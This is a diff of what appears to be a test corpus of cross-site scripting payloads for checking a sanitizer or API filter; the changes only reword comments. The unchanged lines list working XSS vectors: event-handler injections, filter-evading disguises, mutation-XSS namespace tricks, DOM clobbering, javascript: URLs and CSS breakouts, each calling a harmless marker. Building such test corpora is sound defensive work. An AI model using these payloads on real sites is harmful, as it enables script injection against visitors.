@@ -1,9 +1,9 @@
 /*
- * What an attacker who got past the API's refusal could have a page's visitor served. Each would call `ran(N)`, where N
- * stands for its number. Families are written as products, what is a trick of its own is written out.
+ * HTML and CSS that an attacker who got past the API's checks could serve to a visitor. Each payload calls `ran(N)`,
+ * where N stands for its number. Families are written as products; single tricks are written out.
  */
 
-// Elements on which the event happens by itself, or at a visitor's pointer.
+// Elements whose events fire on their own or when the pointer reaches them.
 const handlers = [
   `<img src=x onerror=ran(N)>`,
   `<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=ran(N)>`,
@@ -77,7 +77,7 @@ const handlers = [
   ],
 ].map((each) => (each.startsWith("<") ? each : `<div on${each}=ran(N) tabindex=0>go</div>`));
 
-// How the start of an attribute's name or value may be written, so that a pattern does not know it again.
+// Ways to write an attribute's name or value so that a pattern misses it.
 const disguises = [
   `<img src=x ONERROR=ran(N)>`,
   `<img src=x onerror\t=ran(N)>`,
@@ -120,7 +120,7 @@ const disguises = [
   `\${ran(N)}`,
 ];
 
-// Trees that a parser reads otherwise the second time, or in another namespace.
+// Trees that parse differently the second time, or in another namespace.
 const mutations = [
   `<math><mtext><img src=x onerror=ran(N)></mtext></math>`,
   `<math><mtext><table><mglyph><style><img src=x onerror=ran(N)></style></mglyph></table></mtext></math>`,
@@ -166,7 +166,7 @@ const mutations = [
   `<p id="__proto__"><img id=constructor src=x onerror=ran(N)>`,
 ];
 
-// Elements whose names hide what a sieve asks of a form, and of the document.
+// Elements whose names shadow what a sieve reads from a form or the document.
 const clobberings = [
   `<form><input name=attributes><input name=removeAttribute><input type=image src=x onerror=ran(N)></form>`,
   `<form onmouseover=ran(N)><input name=removeAttribute>go</form>`,
@@ -183,7 +183,7 @@ const clobberings = [
   `<img name=currentScript><img name=body><svg onload=ran(N)>`,
 ];
 
-// Where an address may stand.
+// Places for an address.
 const carriers = [
   (url: string) => `<a href="${url}">go</a>`,
   (url: string) => `<svg><a xlink:href="${url}"><text y=20>go</text></a></svg>`,
@@ -192,7 +192,7 @@ const carriers = [
   (url: string) => `<iframe src="${url}"></iframe>`,
 ];
 
-/** Script, as the address of something. */
+/** Script as an address. */
 export const urlPayloads = [
   "javascript:ran(N)",
   "JaVaScRiPt:ran(N)",
@@ -223,7 +223,7 @@ export const urlPayloads = [
   "data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>parent.ran(N)</script></x>",
 ];
 
-// Addresses in places of their own.
+// Addresses in unusual places.
 const addresses = [
   `<script>ran(N)</script>`,
   `<script src="data:text/javascript,ran(N)"></script>`,
@@ -299,7 +299,7 @@ export const htmlPayloads = [
   ...carriers.flatMap((carry) => urlPayloads.map((url) => carry(url.replaceAll('"', "&quot;")))),
 ];
 
-/** Script in a style sheet, for engines of any age. */
+/** Script in a style sheet, for old and new engines. */
 export const cssPayloads = [
   `</style><script>ran(N)</script>`,
   `</style><img src=x onerror=ran(N)>`,
